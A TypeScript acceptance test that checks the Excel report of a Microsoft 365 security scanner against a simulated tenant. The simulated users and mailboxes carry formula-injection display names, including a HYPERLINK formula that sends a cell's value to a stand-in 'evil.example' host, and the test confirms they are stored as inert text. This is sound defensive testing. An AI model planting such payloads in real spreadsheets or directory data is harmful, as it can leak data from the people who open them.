// Acceptance (report issue, test 1): the workbook of a seeded sim/ tenant, scanned through the real queue, read
// by an independent reader (SheetJS, not exceljs). Sheet names, header rows and autofilters, row counts against
// sources independent of the writer (results.json, raw Graph and Exchange answers of sim/), date cells, the
// hostile strings of sim/ intact as text, no formula anywhere, and the Summary's links into Findings.
import { constants, createHash, createPrivateKey, randomUUID, sign, X509Certificate } from 'node:crypto';
import { readFileSync } from 'node:fs';
import * as XLSX from 'xlsx';
import type { SimHandle } from '../sim';
import { pkcs12Base64ToPem } from '../sim/keyvault/certificate-secrets';
import { LONG_DISPLAY_NAME } from '../sim/tenant/hygiene-plan';
import { HOSTILE_RULE_NAMES } from '../sim/tenant/mailboxes-rules';
import type { RunResults } from '../src/controls/types';
import type { ScanJobResult } from '../src/jobs/scan-job';
import { MAX_CELL_TEXT, removeXmlInvalidChars, safeCellText } from '../src/reports/cell-text';
import { scanThroughQueue, SEEDED_TENANTS } from './helpers/ground-truth-scan';
import { rawRequest } from './helpers/sim-raw-http';
import { openSimWorkspace, type SimWorkspace } from './helpers/sim-workspace';
import { FINDINGS_HEADER, REPORT_SHEET_NAMES, workbookXmlText } from './helpers/workbook-reader';

type Json = Record<string, unknown>;

/** contoso: seed 1, 200 users, certificate credential (tokens below are got with a client assertion). */
const TENANT = SEEDED_TENANTS.find((t) => t.name === 'contoso')!;

const SHEET_NAMES = REPORT_SHEET_NAMES;

const HEADERS: Record<string, string[]> = {
  Summary: ['Control', 'Title', 'Severity', 'Status', 'Findings', 'Change since last run', 'Reason'],
  Findings: FINDINGS_HEADER,
  Changes: ['Change', 'Control', 'Severity', 'Asset type', 'Asset', 'Asset id', 'Detail'],
  Users: [
    'Display name',
    'User principal name',
    'User type',
    'Account enabled',
    'Created (UTC)',
    'Last sign-in (UTC)',
    'Last successful sign-in (UTC)',
    'Synced from on-premises',
    'Licences',
    'Privileged roles',
    'Object id',
  ],
  Administrators: [
    'User principal name',
    'Display name',
    'Role',
    'Assignment',
    'Permanent',
    'Via group',
    'Account enabled',
    'User type',
    'MFA registered',
    'Object id',
  ],
  Mailboxes: [
    'Display name',
    'Primary SMTP address',
    'User principal name',
    'Mailbox type',
    'Audit enabled',
    'Forwarding address',
    'Inbox rules',
    'Forwarding inbox rules',
    'Object id',
  ],
  'Conditional Access': [
    'Policy',
    'State',
    'Grant controls',
    'Included users',
    'Excluded users',
    'Included groups',
    'Excluded groups',
    'Included roles',
    'Excluded roles',
    'Applications',
    'Client app types',
    'Created (UTC)',
    'Modified (UTC)',
    'Policy id',
  ],
};

/** The hostile user display names of sim/tenant/hygiene-plan.ts (copied: only LONG_DISPLAY_NAME is exported). */
const HOSTILE_USER_NAMES = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Open me")',
  '+Stale since 0001',
  '-Former contractor',
  '@Migrated account',
  'Bell\u0001 and noncharacter \uFFFE',
  '-Excluded from Conditional Access',
  '+Nested twice',
  'ليلى 🌙 Haddad',
  'مدير الحسابات 🧑‍💼 (nested)',
  LONG_DISPLAY_NAME,
];
/** The hostile mailbox display name of sim/tenant/mailboxes.ts; its inbox rules carry HOSTILE_RULE_NAMES. */
const HOSTILE_MAILBOX_NAME = '=HYPERLINK("http://evil.example","Shared")';

/** Characters XML 1.0 cannot carry (what removeXmlInvalidChars removes), to look for in stored text. */
// eslint-disable-next-line no-control-regex
const XML_INVALID = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/;
const FORMULA_START = /^[=+\-@\t\r\n]/;
const TRUNCATION_MARKER = /… \[truncated: (\d+) chars\]$/;

// ---------------------------------------------------------------------------------------------------------------
// Reading the workbook with SheetJS.

interface Row {
  /** 1-based sheet row number. */
  number: number;
  cells: Array<XLSX.CellObject | undefined>;
}

interface Table {
  sheet: XLSX.WorkSheet;
  /** 1-based row of the header. */
  headerRow: number;
  /** 1-based last row of the sheet's used range. */
  lastRow: number;
  header: string[];
  rows: Row[];
  /** The cell right of each label of the block above the table. */
  fields: Map<string, XLSX.CellObject | undefined>;
}

function isEmpty(cell: XLSX.CellObject | undefined): boolean {
  return cell === undefined || cell.t === 'z' || cell.v === undefined || cell.v === null || cell.v === '';
}

/** Each cell's address, for reading its serial number again. */
const ADDRESSES = new WeakMap<XLSX.CellObject, string>();

function rowCells(sheet: XLSX.WorkSheet, r: number, lastColumn: number): Array<XLSX.CellObject | undefined> {
  const cells: Array<XLSX.CellObject | undefined> = [];
  for (let c = 0; c <= lastColumn; c++) {
    const address = XLSX.utils.encode_cell({ r, c });
    const cell = sheet[address] as XLSX.CellObject | undefined;
    if (cell) ADDRESSES.set(cell, address);
    cells.push(cell);
  }
  return cells;
}

/**
 * The sheet's table, found without knowing its header: either row 1 is the header (it uses more than the two
 * "label / value" columns), or a block of label / value lines ends at the first blank row and the header follows.
 */
function tableOf(workbook: XLSX.WorkBook, name: string): Table {
  const sheet = workbook.Sheets[name];
  if (!sheet?.['!ref']) throw new Error(`no sheet ${name}, or an empty one`);
  const range = XLSX.utils.decode_range(sheet['!ref']);
  let header0: number | undefined;
  for (let r = range.s.r; r <= range.e.r && header0 === undefined; r++) {
    const used = rowCells(sheet, r, range.e.c).flatMap((cell, c) => (isEmpty(cell) ? [] : [c]));
    if (used.length === 0) header0 = r + 1;
    else if (used.some((c) => c > 1)) header0 = r;
  }
  if (header0 === undefined) throw new Error(`${name}: no table found`);
  const fields = new Map<string, XLSX.CellObject | undefined>();
  for (let r = 0; r < header0 - 1; r++) {
    const [label, value] = rowCells(sheet, r, 1);
    fields.set(String(label?.v), value);
  }
  const header = rowCells(sheet, header0, range.e.c).map((cell) => (isEmpty(cell) ? '' : String(cell!.v)));
  const rows: Row[] = [];
  for (let r = header0 + 1; r <= range.e.r; r++)
    rows.push({ number: r + 1, cells: rowCells(sheet, r, range.e.c) });
  return { sheet, headerRow: header0 + 1, lastRow: range.e.r + 1, header, rows, fields };
}

function columnOf(table: Table, header: string): number {
  const index = table.header.indexOf(header);
  if (index < 0) throw new Error(`no column ${header} in ${table.header.join(', ')}`);
  return index;
}

function cellAt(table: Table, row: Row, header: string): XLSX.CellObject | undefined {
  return row.cells[columnOf(table, header)];
}

/** The stored text of a string cell (undefined for an empty cell, an error for any other type). */
function textAt(table: Table, row: Row, header: string): string | undefined {
  const cell = cellAt(table, row, header);
  if (isEmpty(cell)) return undefined;
  if (cell!.t !== 's') throw new Error(`${header} row ${row.number}: a ${cell!.t} cell, not text`);
  return String(cell!.v);
}

function rowBy(table: Table, header: string, value: string): Row {
  const matches = table.rows.filter((row) => textAt(table, row, header) === value);
  if (matches.length !== 1) throw new Error(`${matches.length} rows with ${header} ${value}`);
  return matches[0]!;
}

/** A date cell's instant in ms, from the serial number the file holds (no time zone involved). */
function serialMs(cell: XLSX.CellObject | undefined): number {
  if (typeof cell?.v !== 'number') throw new Error(`not a serial date: ${JSON.stringify(cell)}`);
  return Math.round((cell.v - 25569) * 86_400_000);
}

// ---------------------------------------------------------------------------------------------------------------
// Raw HTTPS to sim/, with a token of contoso's scanning app (certificate: a client assertion, as msal-node signs).

async function certificateTenantToken(sim: SimHandle, ca: string, tenantName: string, scope: string) {
  const info = sim.ready.tenants.find((tenant) => tenant.name === tenantName);
  if (!info) throw new Error(`no tenant ${tenantName}`);
  const stored = sim.keyVaultItemValue(info.credential.name);
  if (info.credential.type !== 'certificate' || stored === undefined)
    throw new Error(`${tenantName} has no certificate`);
  const pem = pkcs12Base64ToPem(stored);
  const keyPem = /-----BEGIN PRIVATE KEY-----[^-]+-----END PRIVATE KEY-----/.exec(pem)?.[0];
  if (!keyPem) throw new Error('no private key in the PKCS#12');
  const certificate = new X509Certificate(pem);
  const tokenUrl = `${sim.ready.authorityHost}/${info.tenantId}/oauth2/v2.0/token`;
  const now = Math.floor(Date.now() / 1000);
  const json = (value: Json) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const signingInput = `${json({
    alg: 'PS256',
    typ: 'JWT',
    'x5t#S256': createHash('sha256').update(certificate.raw).digest('base64url'),
  })}.${json({ aud: tokenUrl, iss: info.clientId, sub: info.clientId, jti: randomUUID(), nbf: now, exp: now + 600 })}`;
  const signature = sign('sha256', Buffer.from(signingInput), {
    key: createPrivateKey(keyPem),
    padding: constants.RSA_PKCS1_PSS_PADDING,
    saltLength: constants.RSA_PSS_SALTLEN_DIGEST,
  }).toString('base64url');
  const res = await rawRequest(tokenUrl, {
    method: 'POST',
    ca,
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({
      grant_type: 'client_credentials',
      client_id: info.clientId,
      client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer',
      client_assertion: `${signingInput}.${signature}`,
      scope,
    }).toString(),
  });
  if (res.status !== 200) throw new Error(`token request failed: ${res.status} ${res.body}`);
  return String(res.json()['access_token']);
}

/** Every item of a Graph collection, following @odata.nextLink. */
async function graphAll(ws: SimWorkspace, ca: string, token: string, pathAndQuery: string): Promise<Json[]> {
  const items: Json[] = [];
  let url: string | undefined = `${ws.sim.ready.graphUrl}/v1.0${pathAndQuery}`;
  while (url !== undefined) {
    const res = await rawRequest(url, { ca, headers: { authorization: `Bearer ${token}` } });
    if (res.status !== 200) throw new Error(`GET ${url}: ${res.status} ${res.body}`);
    const page = res.json<{ value: Json[]; '@odata.nextLink'?: string }>();
    items.push(...page.value);
    url = page['@odata.nextLink'];
  }
  return items;
}

/** Every row of an Exchange cmdlet through the admin API, re-POSTing the same body to each nextLink. */
async function exchangeAll(
  ws: SimWorkspace,
  ca: string,
  token: string,
  cmdlet: string,
  parameters: Json,
): Promise<Json[]> {
  const tenantId = ws.sim.ready.tenants.find((t) => t.name === TENANT.name)!.tenantId;
  const body = JSON.stringify({ CmdletInput: { CmdletName: cmdlet, Parameters: parameters } });
  const rows: Json[] = [];
  let url: string | undefined = `${ws.sim.ready.exchangeUrl}/adminapi/beta/${tenantId}/InvokeCommand`;
  while (url !== undefined) {
    const res = await rawRequest(url, {
      method: 'POST',
      ca,
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body,
    });
    if (res.status !== 200) throw new Error(`${cmdlet} ${url}: ${res.status} ${res.body}`);
    const page = res.json<{ value: Json[]; '@odata.nextLink'?: string }>();
    rows.push(...page.value);
    url = page['@odata.nextLink'];
  }
  return rows;
}

// ---------------------------------------------------------------------------------------------------------------

describe('the workbook of a seeded sim/ tenant, read by SheetJS', () => {
  let ws: SimWorkspace;
  let job: ScanJobResult;
  let run: RunResults;
  let workbook: XLSX.WorkBook;
  const tables = new Map<string, Table>();
  /** What sim/ answers raw, independently of the worker. */
  let graphUsers: Json[];
  let graphPolicies: Json[];
  let exchangeMailboxes: Json[];
  let hostileMailboxRules: Json[];

  const table = (name: string): Table => {
    const found = tables.get(name);
    if (!found) throw new Error(`no table ${name}`);
    return found;
  };

  beforeAll(async () => {
    ws = await openSimWorkspace('report-sim', { tenants: [TENANT] });
    const outcome = (await scanThroughQueue(ws, [TENANT.name])).get(TENANT.name)!;
    job = outcome.job;
    run = outcome.results;
    workbook = XLSX.read(readFileSync(job.workbookPath), {
      type: 'buffer',
      cellDates: true,
      cellFormula: true,
      cellStyles: true,
    });
    for (const name of workbook.SheetNames) tables.set(name, tableOf(workbook, name));

    const ca = readFileSync(ws.sim.ready.caFile, 'utf8');
    const graphToken = await certificateTenantToken(
      ws.sim,
      ca,
      TENANT.name,
      'https://graph.microsoft.com/.default',
    );
    const exchangeToken = await certificateTenantToken(
      ws.sim,
      ca,
      TENANT.name,
      'https://outlook.office365.com/.default',
    );
    graphUsers = await graphAll(
      ws,
      ca,
      graphToken,
      '/users?$select=id,displayName,userPrincipalName,createdDateTime,signInActivity',
    );
    graphPolicies = await graphAll(ws, ca, graphToken, '/identity/conditionalAccess/policies');
    exchangeMailboxes = await exchangeAll(ws, ca, exchangeToken, 'Get-Mailbox', { ResultSize: 'Unlimited' });
    const hostile = exchangeMailboxes.filter((m) => m['DisplayName'] === HOSTILE_MAILBOX_NAME);
    if (hostile.length !== 1) throw new Error(`${hostile.length} mailboxes named ${HOSTILE_MAILBOX_NAME}`);
    hostileMailboxRules = await graphAll(
      ws,
      ca,
      graphToken,
      `/users/${String(hostile[0]!['ExternalDirectoryObjectId'])}/mailFolders/inbox/messageRules`,
    );
  }, 120_000);
  afterAll(() => ws?.close());

  it('has exactly the seven sheets, in order', () => {
    expect(workbook.SheetNames).toEqual(SHEET_NAMES);
  });

  it.each(SHEET_NAMES)(
    '%s: header row exactly as specified, autofilter from the header to the last row',
    (name) => {
      const t = table(name);
      expect(t.header).toEqual(HEADERS[name]);
      // Summary and Changes have a block of fields and a blank row above the table; the others start with it.
      expect(t.headerRow).toBe(['Summary', 'Changes'].includes(name) ? t.fields.size + 2 : 1);
      const lastColumn = XLSX.utils.encode_col(HEADERS[name]!.length - 1);
      expect(t.sheet['!autofilter']?.ref).toBe(`A${t.headerRow}:${lastColumn}${t.lastRow}`);
      // Every table row is a row (first column filled): the used range's end is the last table row.
      for (const row of t.rows) expect(isEmpty(row.cells[0])).toBe(false);
      expect(t.lastRow).toBe(t.headerRow + t.rows.length);
    },
  );

  it('row counts equal sources independent of the writer', () => {
    const summary = table('Summary');
    const count = (label: string) => summary.fields.get(label)?.v;
    // Summary and Findings: results.json.
    expect(summary.rows).toHaveLength(run.controls.length);
    expect(run.controls.length).toBeGreaterThan(0);
    expect(table('Findings').rows).toHaveLength(run.summary.findings);
    expect(run.controls.reduce((n, c) => n + c.findings.length, 0)).toBe(run.summary.findings);
    expect(run.summary.findings).toBeGreaterThan(0);
    expect(count('Findings')).toBe(run.summary.findings);
    // Changes: nothing to compare with on a first run.
    expect(table('Changes').rows).toHaveLength(0);
    expect(table('Changes').fields.get('Compared with run')?.v).toBe('none: first run');
    // Users: Graph's GET /users, every page.
    expect(graphUsers.length).toBeGreaterThanOrEqual(TENANT.users);
    expect(table('Users').rows).toHaveLength(graphUsers.length);
    expect(count('Users scanned')).toBe(graphUsers.length);
    // Conditional Access: Graph's policies.
    expect(graphPolicies.length).toBeGreaterThan(0);
    expect(table('Conditional Access').rows).toHaveLength(graphPolicies.length);
    expect(count('Conditional Access policies')).toBe(graphPolicies.length);
    // Mailboxes: Exchange's Get-Mailbox -ResultSize Unlimited, every page.
    expect(exchangeMailboxes.length).toBeGreaterThan(0);
    const mailboxes = table('Mailboxes');
    expect(mailboxes.rows).toHaveLength(exchangeMailboxes.length);
    expect(count('Mailboxes scanned')).toBe(exchangeMailboxes.length);
    const addresses = new Set(mailboxes.rows.map((row) => textAt(mailboxes, row, 'Primary SMTP address')));
    expect(addresses).toEqual(new Set(exchangeMailboxes.map((m) => String(m['PrimarySmtpAddress']))));
    // Administrators: one row per role held, one distinct UPN per privileged role holder.
    const holders = count('Privileged role holders');
    expect(typeof holders).toBe('number');
    expect(holders).toBeGreaterThan(0);
    const admins = table('Administrators');
    expect(admins.rows.length).toBeGreaterThanOrEqual(holders as number);
    expect(new Set(admins.rows.map((row) => textAt(admins, row, 'User principal name'))).size).toBe(holders);
  });

  it('dates are date cells holding the source instants', () => {
    const summary = table('Summary');
    for (const [label, iso] of [
      ['Run window start (UTC)', run.startedAt],
      ['Run window end (UTC)', run.finishedAt],
    ] as const) {
      const cell = summary.fields.get(label);
      expect(cell?.t).toBe('d');
      expect(serialMsOf('Summary', cell)).toBe(Date.parse(iso));
    }

    // Findings: every first-seen date is the run's start on a first run.
    const findings = table('Findings');
    for (const row of findings.rows) {
      const cell = cellAt(findings, row, 'First seen (UTC)');
      expect(cell?.t).toBe('d');
      expect(serialMsOf('Findings', cell)).toBe(Date.parse(run.startedAt));
      expect(textAt(findings, row, 'New or persisting')).toBe('new');
    }
    expect(findings.rows.length).toBeGreaterThan(0);

    // Users: the dates Graph gives (a year-one sign-in date means "never": an empty cell).
    const users = table('Users');
    const usersById = new Map(users.rows.map((row) => [textAt(users, row, 'Object id'), row]));
    const checked = { created: 0, lastSignIn: 0, lastSuccessful: 0 };
    for (const user of graphUsers) {
      const row = usersById.get(String(user['id']));
      expect(row).toBeDefined();
      const activity = (user['signInActivity'] ?? null) as Json | null;
      const expectations: Array<[string, unknown, keyof typeof checked]> = [
        ['Created (UTC)', user['createdDateTime'], 'created'],
        ['Last sign-in (UTC)', activity?.['lastSignInDateTime'], 'lastSignIn'],
        ['Last successful sign-in (UTC)', activity?.['lastSuccessfulSignInDateTime'], 'lastSuccessful'],
      ];
      for (const [header, source, key] of expectations) {
        const cell = cellAt(users, row!, header);
        if (typeof source !== 'string' || source.startsWith('0001-01-01')) {
          expect({ header, empty: isEmpty(cell) }).toEqual({ header, empty: true });
          continue;
        }
        expect({ header, type: cell?.t }).toEqual({ header, type: 'd' });
        expect(serialMsOf('Users', cell)).toBe(Date.parse(source));
        checked[key]++;
      }
    }
    // Every non-empty cell of those columns is a date, whatever Graph said.
    for (const header of ['Created (UTC)', 'Last sign-in (UTC)', 'Last successful sign-in (UTC)']) {
      const cells = users.rows.map((row) => cellAt(users, row, header)).filter((cell) => !isEmpty(cell));
      expect(cells.every((cell) => cell!.t === 'd')).toBe(true);
    }
    expect(checked.created).toBeGreaterThan(TENANT.users / 2);
    expect(checked.lastSignIn).toBeGreaterThan(TENANT.users / 2);
    expect(checked.lastSuccessful).toBeGreaterThan(0);

    // Conditional Access: Graph's createdDateTime and modifiedDateTime per policy id.
    const policies = table('Conditional Access');
    let created = 0;
    for (const policy of graphPolicies) {
      const row = rowBy(policies, 'Policy id', String(policy['id']));
      for (const [header, source] of [
        ['Created (UTC)', policy['createdDateTime']],
        ['Modified (UTC)', policy['modifiedDateTime']],
      ] as const) {
        const cell = cellAt(policies, row, header);
        if (typeof source !== 'string') {
          expect(isEmpty(cell)).toBe(true);
          continue;
        }
        expect(cell?.t).toBe('d');
        expect(serialMsOf('Conditional Access', cell)).toBe(Date.parse(source));
        if (header === 'Created (UTC)') created++;
      }
    }
    expect(created).toBeGreaterThan(0);
  });

  /** The serial number behind a date cell, read again without cellDates. */
  function serialMsOf(sheetName: string, cell: XLSX.CellObject | undefined): number {
    const address = cell === undefined ? undefined : ADDRESSES.get(cell);
    if (address === undefined) throw new Error(`cell not found in ${sheetName}`);
    return serialMs(serialWorkbook().Sheets[sheetName]![address]);
  }
  let serials: XLSX.WorkBook | undefined;
  function serialWorkbook(): XLSX.WorkBook {
    serials ??= XLSX.read(readFileSync(job.workbookPath), { type: 'buffer', cellDates: false });
    return serials;
  }

  it("the users' hostile display names from sim/ are stored as safeCellText made them", () => {
    const users = table('Users');
    const usersById = new Map(users.rows.map((row) => [textAt(users, row, 'Object id'), row]));
    // Every user, hostile or not: the cell holds what safeCellText makes of Graph's display name.
    for (const user of graphUsers) {
      const name = user['displayName'];
      const stored = textAt(users, usersById.get(String(user['id']))!, 'Display name');
      expect(stored).toBe(typeof name === 'string' ? safeCellText(name) : undefined);
    }
    const names = new Map(graphUsers.map((user) => [user['displayName'], String(user['id'])]));
    for (const hostile of HOSTILE_USER_NAMES) {
      // sim/ serves the name intact; the workbook stores its safe text.
      expect({ inGraph: names.has(hostile) }).toEqual({ inGraph: true });
      const stored = textAt(users, usersById.get(names.get(hostile))!, 'Display name')!;
      expect(stored).toBe(safeCellText(hostile));
      expect(stored.length).toBeLessThanOrEqual(MAX_CELL_TEXT);
      expect(stored).not.toMatch(XML_INVALID);
      if (FORMULA_START.test(hostile)) expect(stored).toBe(`'${hostile}`);
    }
    const bell = textAt(
      users,
      usersById.get(names.get('Bell\u0001 and noncharacter \uFFFE'))!,
      'Display name',
    );
    expect(bell).toBe('Bell and noncharacter ');
    const long = textAt(users, usersById.get(names.get(LONG_DISPLAY_NAME))!, 'Display name')!;
    expect(long).toHaveLength(MAX_CELL_TEXT);
    expect(long.match(TRUNCATION_MARKER)?.[1]).toBe(String(LONG_DISPLAY_NAME.length));
    expect(LONG_DISPLAY_NAME.startsWith(long.replace(TRUNCATION_MARKER, ''))).toBe(true);
  });

  it('the hostile mailbox name and inbox rule names are stored as safeCellText made them', () => {
    const mailboxes = table('Mailboxes');
    // Every mailbox: the display name as Exchange gives it, made safe.
    for (const mailbox of exchangeMailboxes) {
      const row = rowBy(mailboxes, 'Primary SMTP address', String(mailbox['PrimarySmtpAddress']));
      const name = mailbox['DisplayName'];
      expect(textAt(mailboxes, row, 'Display name')).toBe(
        typeof name === 'string' && name !== '' ? safeCellText(name) : undefined,
      );
    }
    const hostile = exchangeMailboxes.find((m) => m['DisplayName'] === HOSTILE_MAILBOX_NAME)!;
    const row = rowBy(mailboxes, 'Primary SMTP address', String(hostile['PrimarySmtpAddress']));
    expect(textAt(mailboxes, row, 'Display name')).toBe(`'${HOSTILE_MAILBOX_NAME}`);

    // Its forwarding rules, as Graph lists them: every hostile name is there, intact.
    const ruleNames = hostileMailboxRules.map((rule) => String(rule['displayName']));
    for (const name of Object.values(HOSTILE_RULE_NAMES)) expect(ruleNames).toContain(name);
    const forwarding = hostileMailboxRules
      .filter((rule) => {
        const actions = (rule['actions'] ?? {}) as Record<string, unknown[] | undefined>;
        return ['forwardTo', 'redirectTo', 'forwardAsAttachmentTo'].some(
          (a) => (actions[a]?.length ?? 0) > 0,
        );
      })
      .map((rule) => String(rule['displayName']));
    // Each name is listed, a name over 256 characters cut to 255 and "…", so that one 40,000-character name
    // does not push the others out; the list is then made safe as one cell (one apostrophe: it starts with "=").
    const listed = forwarding.map((name) => (name.length <= 256 ? name : `${name.slice(0, 255)}…`));
    const stored = textAt(mailboxes, row, 'Forwarding inbox rules')!;
    expect(stored).toBe(safeCellText(listed.join('; ')));
    expect(forwarding[0]).toBe(HOSTILE_RULE_NAMES.equals);
    expect(stored.startsWith(`'${HOSTILE_RULE_NAMES.equals}; `)).toBe(true);
    for (const name of [HOSTILE_RULE_NAMES.plus, HOSTILE_RULE_NAMES.minus, HOSTILE_RULE_NAMES.at])
      expect(stored).toContain(`; ${name}; `);
    expect(stored).toContain(`; ${removeXmlInvalidChars(HOSTILE_RULE_NAMES.xmlInvalid)}; `);
    expect(removeXmlInvalidChars(HOSTILE_RULE_NAMES.xmlInvalid)).toBe('Badchars end');
    expect(stored).not.toMatch(XML_INVALID);
    // The long name is cut alone; the names after it (right-to-left, emoji) are all there.
    expect(stored).toContain(`; ${HOSTILE_RULE_NAMES.long.slice(0, 255)}…; `);
    expect(stored).toContain(`; ${HOSTILE_RULE_NAMES.rtl}; `);
    expect(stored).toContain(HOSTILE_RULE_NAMES.emoji);
    expect(stored.length).toBeLessThan(MAX_CELL_TEXT);
  });

  it('the CRW-EXO-05 details naming the hostile rules are stored as safeCellText made them', () => {
    const findings = table('Findings');
    const exo05 = run.controls.find((c) => c.id === 'CRW-EXO-05')!;
    const details = findings.rows
      .filter((row) => textAt(findings, row, 'Control') === 'CRW-EXO-05')
      .map((row) => textAt(findings, row, 'Detail'));
    // The findings of results.json, each detail made safe.
    expect(details.sort()).toEqual(exo05.findings.map((f) => safeCellText(f.detail)).sort());
    let hostileDetails = 0;
    for (const [kind, name] of Object.entries(HOSTILE_RULE_NAMES)) {
      for (const finding of exo05.findings.filter((f) => f.detail.startsWith(`inbox rule "${name}"`))) {
        hostileDetails++;
        const stored = safeCellText(finding.detail);
        expect(details).toContain(stored);
        expect(stored).not.toMatch(XML_INVALID);
        if (kind === 'long') {
          expect(stored).toHaveLength(MAX_CELL_TEXT);
          expect(stored.match(TRUNCATION_MARKER)?.[1]).toBe(
            String(removeXmlInvalidChars(finding.detail).length),
          );
          expect(finding.detail.startsWith(stored.replace(TRUNCATION_MARKER, ''))).toBe(true);
        } else {
          // The name sits inside quotes: kept as it is, but for the characters XML cannot carry.
          expect(stored).toContain(`inbox rule "${removeXmlInvalidChars(name)}"`);
          expect(stored).toBe(removeXmlInvalidChars(finding.detail));
        }
      }
    }
    // Every hostile name but "@SUM(A1:A2)", whose rule forwards inside the tenant, is a finding in seed 1.
    expect(hostileDetails).toBeGreaterThanOrEqual(Object.keys(HOSTILE_RULE_NAMES).length - 1);
  });

  it('Conditional Access policy names are stored as safeCellText made them', () => {
    const policies = table('Conditional Access');
    let hostile = 0;
    for (const policy of graphPolicies) {
      const name = String(policy['displayName']);
      const row = rowBy(policies, 'Policy id', String(policy['id']));
      expect(textAt(policies, row, 'Policy')).toBe(safeCellText(name));
      if (FORMULA_START.test(name)) hostile++;
    }
    expect(hostile).toBeGreaterThan(0);
  });

  it('no cell anywhere is a formula, an error, a link out, or text that starts a formula when edited', async () => {
    let strings = 0;
    for (const name of workbook.SheetNames) {
      const sheet = workbook.Sheets[name]!;
      for (const [address, cell] of Object.entries(sheet)) {
        if (address.startsWith('!')) continue;
        const where = `${name}!${address}`;
        const c = cell as XLSX.CellObject;
        expect({ where, formula: c.f }).toEqual({ where, formula: undefined });
        expect({ where, type: ['s', 'n', 'b', 'd', 'z'].includes(c.t) }).toEqual({ where, type: true });
        if (c.t === 's') {
          strings++;
          expect({ where, startsFormula: FORMULA_START.test(String(c.v)) }).toEqual({
            where,
            startsFormula: false,
          });
        }
        // The only links are the Summary's, into this workbook.
        if (c.l)
          expect({ where, target: c.l.Target }).toEqual({
            where,
            target: expect.stringMatching(/^#Findings!/),
          });
      }
    }
    expect(strings).toBeGreaterThan(1000);
    // Nor in the XML itself: no <f> element in any part.
    expect(await workbookXmlText(job.workbookPath)).not.toMatch(/<f[\s>]/);
  });

  it("each Summary row of a control with findings links to that control's first Findings row", () => {
    const summary = table('Summary');
    const findings = table('Findings');
    let linked = 0;
    for (const row of summary.rows) {
      const id = textAt(summary, row, 'Control')!;
      const control = run.controls.find((c) => c.id === id);
      expect(control).toBeDefined();
      expect(cellAt(summary, row, 'Findings')?.v).toBe(control!.findings.length);
      const link = cellAt(summary, row, 'Control')?.l;
      if (control!.findings.length === 0) {
        expect({ id, link }).toEqual({ id, link: undefined });
        continue;
      }
      linked++;
      const target = /^#?'?Findings'?!\$?A\$?(\d+)$/.exec(link?.Target ?? '');
      expect({ id, target: link?.Target }).toEqual({ id, target: expect.stringMatching(/^#Findings!A\d+$/) });
      const first = findings.rows.find((r) => textAt(findings, r, 'Control') === id);
      expect({ id, row: Number(target![1]) }).toEqual({ id, row: first!.number });
      expect(findings.rows.filter((r) => textAt(findings, r, 'Control') === id)).toHaveLength(
        control!.findings.length,
      );
    }
    expect(linked).toBe(run.controls.filter((c) => c.findings.length > 0).length);
    expect(linked).toBeGreaterThan(0);
  });
});
